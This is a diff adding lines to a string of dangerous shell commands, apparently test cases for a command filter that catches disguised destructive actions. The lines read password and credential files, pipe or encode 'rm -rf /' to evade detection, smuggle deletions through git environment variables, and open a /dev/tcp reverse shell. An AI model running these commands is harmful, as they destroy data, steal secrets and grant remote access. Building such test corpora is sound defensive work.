@@ -509,6 +509,22 @@ cat x >> "/etc/crontab"
 """
 
 _MORE = r"""
+cat /etc/sh?dow
+cat /etc/s*dow
+cat ~/.ssh/id_*
+cat ~/.aws/cred*
+perl -e 'print "rm -rf /"' | sh
+python3 -c "print('rm -rf /')" | bash
+awk 'BEGIN{print "rm -rf /"}' | sh
+node -e "console.log('rm -rf /')" | sh
+$(python3 -c "print('rm')") -rf /
+cp /bin/rm ./x; ./x -rf /
+GIT_SSH_COMMAND='rm -rf src' git fetch
+PAGER='sh -c "rm -rf src"' git log
+bash -c "$(printf '%b' '\162\155 -rf /')"
+curl file:///etc/shadow
+echo "bash -i >& /dev/tcp/10.0.0.1/44 0>&1" | bash
+cat <<< 'rm -rf src' > a.sh; bash a.sh
 sudo rm -r /boot
 rm -rf /Users/me
 rm -rf / --no-preserve-root
